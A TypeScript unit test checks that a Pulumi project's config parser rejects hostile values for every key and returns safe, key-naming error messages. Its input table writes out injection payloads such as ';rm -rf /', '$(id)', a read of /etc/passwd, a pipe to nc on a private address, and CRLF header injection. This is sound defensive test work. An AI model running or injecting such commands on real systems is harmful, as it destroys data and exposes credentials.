// Hostile configuration values (quotes, spaces, command substitution, `;rm -rf /`, backticks,
// newlines, control and bidi characters, 100 KB strings, huge and odd numbers) are rejected by
// parseConfig with the key named, for every key Pulumi.yaml declares (so a key added later is
// covered too). That none reaches a shell unquoted is tests/unit/program.test.ts's guard.
import { CONFIG_KEYS, ConfigKeySpec, InvalidConfigError, parseConfig } from "../../lib/config";

const NAMESPACE = "container-links";

/** Values a shell, a YAML file or a terminal would treat specially. None is valid for any key. */
const SHELL_HOSTILE: Record<string, string> = {
  "double quotes": 'has "double quotes"',
  "single quote": "it's",
  space: "with space",
  "leading space": " redis",
  "trailing space": "redis ",
  tab: "a\tb",
  "command substitution": "$(id)",
  "command separator": ";rm -rf /",
  backticks: "`id`",
  "parameter expansion": "${IFS}cat${IFS}/etc/passwd",
  variable: "$HOME",
  pipe: "a|nc 10.0.0.1 4444",
  "and list": "redis&&reboot",
  redirection: "a>/etc/passwd",
  newline: "redis\nrm -rf /",
  "carriage return": "redis\r\nX-Injected: 1",
  "NUL byte": "redis\u0000",
  "escape sequence": "redis\u001b[2J",
  "bidi override": "redis\u202egnp.exe",
  "option-like": "--privileged",
  glob: "*",
  tilde: "~root",
  "100 KB": "a".repeat(100 * 1024),
};

/** Odd numbers for the integer keys (ports, counts, seconds). */
const NUMBER_HOSTILE: Record<string, string> = {
  huge: "99999999999999999999999",
  "2^32": "4294967296",
  "beyond 2^53": "9007199254740993",
  "port range + 1": "65536",
  zero: "0",
  negative: "-1",
  exponent: "1e3",
  hex: "0x10",
  octal: "010",
  fraction: "3.5",
  plus: "+80",
  padded: " 80 ",
  infinity: "Infinity",
  "not a number": "NaN",
};

function casesFor(spec: ConfigKeySpec): [string, string][] {
  const shell = Object.entries(SHELL_HOSTILE);
  return spec.type === "integer" ? [...shell, ...Object.entries(NUMBER_HOSTILE)] : shell;
}

/** How parseConfig's answer to one hostile value falls short; undefined when it is as it must be. */
function shortfall(spec: ConfigKeySpec, value: string): string | undefined {
  let thrown: unknown;
  try {
    parseConfig((k) => (k === spec.key ? value : undefined));
  } catch (err) {
    thrown = err;
  }
  if (!(thrown instanceof InvalidConfigError)) return "accepted";
  const { errors, message } = thrown;
  // Exactly one problem, for this key: the value was refused, not passed on to trip something later.
  if (errors.length !== 1 || errors[0].key !== spec.key) return `problems for ${errors.map((e) => e.key)}`;
  if (!message.includes(`${NAMESPACE}:${spec.key}: `)) return "message does not name the key";
  // The message is safe to print: printable ASCII on each line, bounded whatever the value's size.
  if (!message.split("\n").every((line) => /^[\x20-\x7e]*$/.test(line))) return "unprintable message";
  if (message.length >= 1_000) return `message of ${message.length} characters`;
  if (spec.secret && (errors[0].value !== "(secret)" || message.includes(value))) return "secret shown";
  return undefined;
}

describe("parseConfig rejects hostile values, naming the key", () => {
  test.each(CONFIG_KEYS.map((spec) => [spec.key, spec] as const))("%s", (_key, spec) => {
    const shortfalls = casesFor(spec).flatMap(([what, value]) => {
      const problem = shortfall(spec, value);
      return problem === undefined ? [] : [`${what}: ${problem}`];
    });
    expect(shortfalls).toEqual([]);
  });
});
